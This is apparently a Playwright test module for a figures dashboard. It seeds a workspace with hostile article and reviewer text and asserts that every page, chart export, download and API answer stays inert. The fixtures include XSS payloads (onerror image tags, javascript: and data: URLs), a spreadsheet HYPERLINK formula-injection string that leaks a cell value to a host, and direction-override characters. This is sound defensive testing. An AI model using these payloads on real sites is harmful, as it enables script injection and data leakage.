"""Whatever stands in articles, and whatever reviewers write, is inert on every page, in every file and in the API."""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from dashboard.state import Audit, Compare, Documents, Figure, Figures, Habit, Inbox, Sources, View, href
from tests.browser.serving import Opened, served
from tests.browser.test_dashboard import points_of
from tests.sample_workspace import FLOOD, HARBOUR, HOSTILE, id_of, tables
from tracker.review import Action, Judged, judge
from tracker.workspace import Workspace

pytestmark = [pytest.mark.browser, pytest.mark.slow]

OVERRIDE = "\u202e"
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
UNIT = "<img src=x onerror=alert(4)>"
"""Units are from a table of ours, so one is as short as the longest there."""
CLAIM = id_of("a.txt", "400")
ENDLESS = f"{HOSTILE}{OVERRIDE} " + "w" * 50_000 + " " + "word " * 10_000
FITS = "document.documentElement.scrollWidth <= window.innerWidth"
SCRIPT_URLS = (
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\x01javascript:alert(1)",
    "//example.org/a",
    'https://example.org/"onmouseover="alert(1)',
)
PAGES = (
    href(Inbox()),
    href(Inbox(q=HOSTILE, source=HOSTILE, unit=HOSTILE)),
    href(Figures()),
    href(Figures(q=HOSTILE, source=HOSTILE)),
    href(Documents()),
    href(Documents(q="onerror")),
    "/documents/a.txt",
    f"/documents/d.txt?claim={id_of('d.txt', '520')}",
    href(Sources()),
    href(Sources(q=HOSTILE, sort=Habit.NAME)),
    href(Compare((HARBOUR, FLOOD))),
    href(Compare((HARBOUR,), q="onerror")),
    href(Audit()),
    *(href(Figure(HARBOUR, claim=CLAIM, view=view)) for view in View),
    "/figures/%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/%3Cscript%3Ealert(1)%3C/script%3E?q=%3Cscript%3E",
)
FILES = tuple(
    f"/downloads/{name}.{form}"
    for name in ("figures", "findings", "claims")
    for form in ("csv", "xlsx", "parquet", "zip")
)
ANSWERS = (
    "/api/figures",
    f"/api/figures/{HARBOUR}",
    "/api/claims",
    "/api/findings",
    "/api/figures/%3Cb%3E",
    "/api/openapi.json",
)


def hostile_tables() -> dict[str, pl.DataFrame]:
    """The sample with markup, overrides of direction and formulas wherever an article has a say."""
    text = f"Exactly 520 dockers {HOSTILE} are out now. A loan of $50 billion was agreed. {HOSTILE}"
    frames = tables(**{"d.txt": text})
    bad, unit, formula = pl.lit(HOSTILE + OVERRIDE), pl.lit(UNIT), pl.lit(FORMULA + HOSTILE + OVERRIDE)
    urls = pl.Series("url", [SCRIPT_URLS[place % len(SCRIPT_URLS)] for place in range(frames["documents"].height)])
    endless = pl.when(pl.col("doc_id") == "a.txt").then(pl.lit(ENDLESS)).otherwise(formula).alias("title")
    said = dict.fromkeys(("source", "claimant", "counted", "subject", "place", "state", "via"), bad)
    return frames | {
        "documents": frames["documents"].with_columns(urls, endless, source=bad, language=bad),
        "claims": frames["claims"].with_columns(**said, surface=formula, unit=unit),
        "figures": frames["figures"].with_columns(label=formula, unit=unit, per=unit),
        "findings": frames["findings"].with_columns(summary=formula),
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    path = tmp_path_factory.mktemp("hostile") / "workspace"
    workspace = Workspace.create(path)
    workspace.commit(hostile_tables())
    judge(workspace, HOSTILE, Judged(Action.NOTE, (HARBOUR,), HOSTILE + OVERRIDE))
    judge(workspace, FORMULA, Judged(Action.NOTE, (CLAIM,), FORMULA + HOSTILE))
    with served(path) as found:
        yield found


def assert_inert(page: Page) -> None:
    """Nothing of an article became an element or a link, and nothing ran."""
    assert (
        page.locator("main img, main script, main iframe, main object, main embed, main base, main meta").count() == 0
    )
    addresses = page.locator("a[href]").evaluate_all(
        "all => all.map(each => each.getAttribute('href').trim().toLowerCase())"
    )
    assert [each for each in addresses if not each.startswith(("/", "https://", "#", "?")) and each] == []
    assert [each for each in addresses if each.startswith("//")] == []
    handlers = "all => all.filter(each => each.getAttributeNames().some(name => name.startsWith('on'))).length"
    assert page.locator("main *").evaluate_all(handlers) == 0


def assert_fits(page: Page) -> None:
    """The page becomes no wider than its window, once its chart has followed."""
    deadline = time.monotonic() + 20
    while not page.evaluate(FITS) and time.monotonic() < deadline:
        page.wait_for_timeout(200)
    assert page.evaluate(FITS)


@pytest.mark.parametrize("address", PAGES)
def test_every_page_is_inert_and_fits(hostile: str, open_page: Opened, address: str) -> None:
    page = open_page(hostile, address)
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    page.wait_for_load_state("networkidle")
    expect(page.locator("h1").first).to_be_visible()
    if "claim=" in address and address.startswith("/figures"):
        expect(page.locator("#evidence")).to_contain_text("onerror")
        expect(page.locator("#why li, #why p").first).to_be_visible(timeout=60_000)
    assert_inert(page)
    assert_fits(page)
    page.set_viewport_size({"width": 390, "height": 844})
    assert_fits(page)


@pytest.mark.parametrize("view", View)
def test_what_a_chart_tells_is_inert(hostile: str, open_page: Opened, view: View) -> None:
    page = open_page(hostile, href(Figure(HARBOUR, view=view)))
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    point = points_of(page)[0]
    page.mouse.move(point["x"], point["y"])
    hover = page.locator("#chart .hoverlayer")
    expect(hover).to_contain_text("onerror")
    assert OVERRIDE not in (hover.text_content() or "")
    assert page.locator("#chart foreignObject, #chart image, #chart a, #chart script").count() == 0


def test_an_override_of_direction_stays_where_it_is(hostile: str, open_page: Opened) -> None:
    page = open_page(hostile, href(Figures()))
    cells = page.locator("table.figures tbody tr").first.locator("td, th")
    expect(cells.first).to_be_visible()
    for cell in cells.all():
        assert cell.evaluate("each => getComputedStyle(each).unicodeBidi") in {
            "isolate",
            "plaintext",
            "isolate-override",
        }


@pytest.mark.parametrize("form", ["svg", "png"])
def test_a_picture_of_a_chart_is_inert(hostile: str, open_page: Opened, form: str, tmp_path: Path) -> None:
    page = open_page(hostile, href(Figure(HARBOUR)))
    page.wait_for_selector("#chart .js-plotly-plot .points path", state="attached")
    page.locator("details.menu summary").first.click()
    with page.expect_download() as waiting:
        page.locator(f"button[data-picture={form}]").click()
    saved = tmp_path / f"picture.{form}"
    waiting.value.save_as(saved)
    if form == "svg":
        other = page.context.new_page()
        other.on("dialog", lambda dialog: pytest.fail(dialog.message))
        other.goto(saved.as_uri())
        found = other.evaluate(
            "document.querySelectorAll('script, foreignObject, iframe, [onload], [onerror], a').length"
        )
        assert found == 0
        assert "<img" not in saved.read_text(encoding="utf-8")
    else:
        assert saved.read_bytes().startswith(b"\x89PNG")


@pytest.mark.parametrize("address", FILES)
def test_files_are_files_and_their_cells_no_formulas(hostile: str, shared: BrowserContext, address: str) -> None:
    answer = shared.request.get(hostile + address)
    assert answer.ok
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert not any(ord(char) > 126 or char in "<>" for char in answer.headers["content-disposition"])
    texts = []
    if address.endswith(".csv"):
        texts = [answer.body()]
    elif address.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(answer.body())) as archive:
            assert all("/" not in name and ".." not in name for name in archive.namelist())
            texts = [archive.read(name) for name in archive.namelist() if name.endswith(".csv")]
    csv.field_size_limit(1_000_000)
    for text in texts:
        rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
        assert any("HYPERLINK" in cell for row in rows for cell in row)
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("address", ANSWERS)
def test_the_api_answers_with_json_that_no_browser_runs(hostile: str, shared: BrowserContext, address: str) -> None:
    answer = shared.request.get(hostile + address)
    assert answer.headers["content-type"].split(";")[0] in {"application/json", "application/problem+json"}
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert isinstance(json.loads(answer.body()), dict)
    with shared.new_page() as page:
        page.on("dialog", lambda dialog: pytest.fail(dialog.message))
        page.goto(hostile + address)
        assert page.locator("img, script, iframe").count() == 0
